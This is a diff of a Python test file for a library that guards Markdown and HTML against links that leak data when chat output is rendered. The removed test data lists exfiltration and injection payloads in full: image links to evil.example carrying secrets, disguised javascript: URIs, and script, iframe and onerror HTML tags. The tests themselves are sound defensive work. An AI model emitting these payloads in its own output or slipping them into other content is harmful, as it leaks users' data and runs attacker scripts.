@@ -2,137 +2,36 @@
 
 from __future__ import annotations
 
+import json
 import re
 from itertools import islice
 from random import Random
 
 import pytest
 
-from conformance.markdown_documents import PIECES, STARTS, mutants, opened_by
+from conformance.guarded import ATTACKS as PATH_OF_ATTACKS
+from conformance.markdown_documents import PIECES, STARTS, mutants
 from uriverse import Policy
-from uriverse.documents import Guard, guard, links
+from uriverse.documents import Guard, _guard_document, _guard_text, guard, links
 
 POLICY = Policy(allow=["ok.example", "*.ok.example"])
 IMAGES = Policy(allow=["img.ok.example"], schemes=["https"])
 
-#: Ways to make a renderer send data to another site. The forms are those of published attacks on
-#: chat programs: images, reference images, links, autolinks, raw HTML, and disguises of each.
-ATTACKS = (
-    "![x](https://evil.example/?q=secret)",
-    "![x](<https://evil.example/?q=secret>)",
-    "![x][r]\n\n[r]: https://evil.example/?q=secret",
-    "![r]\n\n[r]:\nhttps://evil.example/?q=secret\n'title'",
-    "[![x](https://evil.example/i)](https://ok.example/)",
-    "[click](https://evil.example/#secret)",
-    "[click](//evil.example/x)",
-    "[click](/relative)",
-    "[click](\\/\\/evil.example)",
-    "[click](https://ok.example@evil.example/)",
-    "[click](https://ok.example\\@evil.example/)",
-    "[click](https://ok.example.evil.example/)",
-    "[click](javascript:alert(1))",
-    "[click](&#106;avascript:alert(1))",
-    "[click](java&Tab;script:alert(1))",
-    "[click](JaVaScRiPt&colon;alert(1))",
-    "[click](<java\tscript:alert(1)>)",
-    "[click](data:text/html;base64,PHNjcmlwdD4=)",
-    "[click](vbscript:x)",
-    "[click](&#104;ttps://evil.example)",
-    "[click](\thttps://evil.example\n)",
-    "[click](\n  https://evil.example\n  'x'\n)",
-    "[a [b](https://evil.example) c](https://ok.example)",
-    "[a](https://evil.example",
-    "![a](https://evil.example/?q=",
-    "[a]: https://evil.example",
-    "[a]:\n  <https://evil.example>\n\n[a]",
-    "<https://evil.example/>",
-    "<javascript:alert(1)>",
-    "<a@evil.example>",
-    "https://evil.example/?q=secret",
-    "HTTPS://EVIL.example",
-    "https&colon;//evil.example",
-    "https:\\/\\/evil.example",
-    "&#104;ttps://evil.example",
-    "https://ok.example.evil.example/",
-    "https://ok.example\\.evil.example/",
-    "https://ok.example\u00a0.evil.example/",
-    "www.evil.example",
-    "WWW.evil.example",
-    "evil.com/?q=secret",
-    "(evil.com)",
-    "//evil.com/x",
-    "ok.example/www.evil.example",
-    "mailto:a@evil.example",
-    "a@evil.example",
-    "ftp://evil.example/x",
-    "<img src=https://evil.example>",
-    "<img src='https://evil.example' onerror=alert(1)>",
-    "<a href=https://evil.example>x</a>",
-    '<div style="background:url(https://evil.example)">',
-    "<script src=https://evil.example></script>",
-    "<iframe src=https://evil.example>",
-    "<base href=https://evil.example>\n\n[a](b)",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<svg><image href=https://evil.example /></svg>",
-    "<!-- --><img src=https://evil.example>",
-    "<!-- > <img src=https://evil.example> -->",
-    "<?x?><img src=https://evil.example>",
-    "<![CDATA[<img src=https://evil.example>]]>",
-    "    <img src=https://evil.example>",
-    "\\<img src=https://evil.example>",
-    "`` ` `<img src=https://evil.example>`",
-    "`a\n\n<img src=https://evil.example>`",
-    "[[`a](https://evil.example)`",
-    "~~https://evil.example~~b",
-    "~a `b~ https://evil.example `",
-    "1. ```\na\n   ```\n![x](https://evil.example)",
-    "> ```\n![x](https://evil.example)\n> ```\n> ![x](https://evil.example)",
-    "[\n```\n]: https://evil.example\n",
-    "| a |\n|---|\n| ![b](https://evil.example) | ![c](https://evil.example) |",
-    "`a | b\n---|---\n<img src=https://evil.example>` | c",
-    "> ![x](https://evil.example)",
-    "1. a\n\n   ![x](https://evil.example)",
-    "# ![x](https://evil.example)",
-    "![x](https://evil.example)\n===",
-    "[^1]\n\n[^1]: ![x](https://evil.example)",
-    "[^1]: https://evil.example",
-    "~~![x](https://evil.example)~~",
-    "*![x*](https://evil.example)",
-    "!\\[x](https://evil.example)",
-    "![x]\\(https://evil.example)",
-    '[x](https://ok.example "](https://evil.example)")',
-    "![https://evil.example](https://ok.example)",
-    "[https://evil.example](https://ok.example)",
-    "![a](https://ok.example/i.png)",
-    "[x][](https://evil.example)(https://evil.example)",
-    "!<https://evil.example>[x](https://ok.example)",
-)
+#: Attacks, and ways to disguise them. `tests/conformance` adds those that were published.
+ATTACKS = [
+    each["markdown"]
+    for each in map(json.loads, PATH_OF_ATTACKS.read_text("utf-8").splitlines())
+    if each["source"] == "uriverse"
+]
 
 
 def opened(document: str) -> list[tuple[str, str]]:
-    """Return the kinds and destinations that renderers open: those that can be imported."""
+    """Return the kinds and destinations that `links` and a naive renderer find.
+
+    The tests in `tests/conformance` run real renderers.
+    """
     found: list[tuple[str, str]] = []
     found += [(link.kind, link.destination) for link in links(document, "markdown")]
-    html: list[str] = []
-    try:
-        from cmarkgfm import cmark
-
-        for flags in (0, cmark.Options.CMARK_OPT_FOOTNOTES):
-            options = flags | cmark.Options.CMARK_OPT_UNSAFE
-            extensions = ["table", "autolink", "strikethrough"]
-            html.append(cmark.markdown_to_html_with_extensions(document, options, extensions))
-    except ImportError:
-        pass
-    try:
-        from markdown_it import MarkdownIt
-
-        renderer = MarkdownIt("gfm-like", {"html": True, "linkify": True})
-        renderer.validateLink = lambda url: True  # type: ignore[method-assign]  # noqa: ARG005
-        html.append(renderer.render(document))
-    except ImportError:
-        pass
-    for each in html:
-        found += [("image" if tag == "img" else "link", to) for tag, to in opened_by(each)]
     # A naive renderer replaces patterns, except in code.
     if "```" not in document and "~~~" not in document:
         text = re.sub(r"(`+)(?!`).*?(?<!`)\1(?!`)", " ", document)
@@ -145,8 +44,6 @@ def violations(document: str, embeds: Policy | None) -> list[tuple[str, str]]:
     """Return what renderers open although it is not allowed."""
     bad: list[tuple[str, str]] = []
     for kind, destination in opened(document):
-        if destination.startswith(("#fn-", "#fnref-")):
-            continue
         policy = embeds if kind == "image" else POLICY
         if policy is None or not policy.allows(destination):
             bad.append((kind, destination))
@@ -213,6 +110,8 @@ def test_keeps_the_rest(document: str) -> None:
     [
         ("a [b *c*](https://evil.example) d", "a b *c* d"),
         ("![a `b`](https://evil.example)", "a `b`"),
+        ("see https://ok.example/a;b.", "see <https://ok.example/a;b>."),
+        ("a <https://ok.example/b> c", "a <https://ok.example/b> c"),
         ("see https://evil.example/x.", "see `https://evil.example/x`."),
         ("a <b> c", "a &lt;b> c"),
         ("[a][r]\n\n[r]: https://ok.example/b\n", "[a](https://ok.example/b)\n\n[r]: https://ok.example/b\n"),
@@ -243,6 +142,16 @@ def test_a_guarded_document_stays_the_same() -> None:
         assert guard(once, POLICY) == once
 
 
+def test_a_document_that_keeps_changing_is_escaped(monkeypatch: pytest.MonkeyPatch) -> None:
+    monkeypatch.setattr(_guard_document, "ROUNDS", 1)
+    assert guard("[a](https://ok.example/) <b>", POLICY) == "[`a%5D(https://ok.example/`) &lt;b>"
+
+
+def test_edits_within_earlier_edits_are_ignored() -> None:
+    edits = [_guard_text.Edit(0, 2, "x"), _guard_text.Edit(1, 3, "y")]
+    assert _guard_document.applied("abc", edits) == "xc"
+
+
 def test_a_stream_returns_blocks_when_they_are_complete() -> None:
     stream = Guard(POLICY)
     assert stream.feed("a [b](https://ok.exa") == ""
@@ -267,3 +176,84 @@ def test_a_stream_holds_a_bounded_number_of_characters(unit: str) -> None:
     assert len(result[-1]) < 20 * 65_536
     assert returned > 0
     assert not [each for each in links("".join(result), "markdown") if "evil" in each.destination]
+
+
+HTML = """<details open>
+<summary>More</summary>
+
+Press <kbd>F1</kbd>.<br>
+Or <b>F2</b>.
+
+</details>
+"""
+
+
+@pytest.mark.parametrize(
+    "document",
+    [
+        HTML,
+        "- <b>Note</b> and `<b>`\n",
+        'See <a href="https://ok.example/?b=1&amp;c" title="x">this</a>.\n',
+        'A <img src="https://img.ok.example/a.png" alt="cat" width="10"/> here.\n',
+        '<table>\n<tr><td align="center">a</td></tr>\n</table>\n',
+    ],
+)
+def test_keeps_harmless_html(document: str) -> None:
+    assert guard(document, POLICY, embeds=IMAGES, html=True) == document
+    stream = Guard(POLICY, embeds=IMAGES, html=True)
+    assert "".join(map(stream.feed, document)) + stream.close() == document
+    assert stream.removed == []
+
+
+@pytest.mark.parametrize(
+    ("document", "expected"),
+    [
+        ("a <script>b</script>", "a &lt;script>b&lt;/script>"),
+        ('a <b onclick="c">d</b>', 'a &lt;b onclick="c">d</b>'),
+        ('a <b title="c" title="d">', 'a &lt;b title="c" title="d">'),
+        ('a <b title="www.a.com">', 'a &lt;b `title="www.a.com`">'),
+        ('a <b title="&quot;">', 'a &lt;b title="&quot;">'),
+        ("a <B>", "a &lt;B>"),
+        ('a <a href="b&c">', 'a &lt;a href="b&c">'),
+        ('a <a href="//evil.example">b</a>', 'a &lt;a `href="//evil.example`">b</a>'),
+        ('a <img src="https://ok.example/b">', 'a &lt;img `src="https://ok.example/b`">'),
+        # An HTML block would contain the rest of the paragraph as it is.
+        ("a\n<div> `<i>`", "a\n<div> &#96;<i>&#96;"),
+        ("<b>\n`<img/src=x>`", "<b>\n&#96;&lt;img/src=x>&#96;"),
+        ("a\n<b>\n`c`", "a\n&lt;b>\n`c`"),
+        ("[^a]\n\n[^a]: <div> `<img/src=x>`", "[^a]\n\n[^a]\\: &lt;div> `<img/src=x>`"),
+        (
+            "<div>\n[a](https://ok.example/)\n</div>",
+            "<div>\n\\[`a%5D(https://ok.example/`)\n</div>",
+        ),
+        ("    <b>", "    &lt;b>"),
+        ('<div><b id="a"></div>', '<div>&lt;b id="a"></div>'),
+    ],
+)
+def test_escapes_other_html(document: str, expected: str) -> None:
+    assert guard(document, POLICY, embeds=IMAGES, html=True) == expected
+
+
+def test_lists_the_destinations_that_were_removed() -> None:
+    stream = Guard(POLICY, embeds=IMAGES)
+    for block in (
+        "[a]: https://img.ok.example/b\n![no image by reference, but allowed][a]",
+        "[c](https://evil.example/d) ![e](https://ok.example/?token=f) [g](https://ok.example/)",
+        "<https://evil.example/h> evil.com a@evil.example https://evil.example/d",
+        "<a href=javascript:alert()>i</a>",
+        "<iframe src=j></iframe>",
+        "    https://evil.example/code",
+        "`https://evil.example/code`",
+    ):
+        stream.feed(f"{block}\n\n")
+    stream.close()
+    assert stream.removed == [
+        ("link", "https://evil.example/d"),
+        ("image", "https://ok.example/?token=REDACTED"),
+        ("autolink", "https://evil.example/h"),
+        ("autolink", "evil.com"),
+        ("autolink", "a@evil.example"),
+        ("autolink", "https://evil.example/d"),
+        ("link", "javascript:alert()"),
+        ("frame", "j"),
+    ]
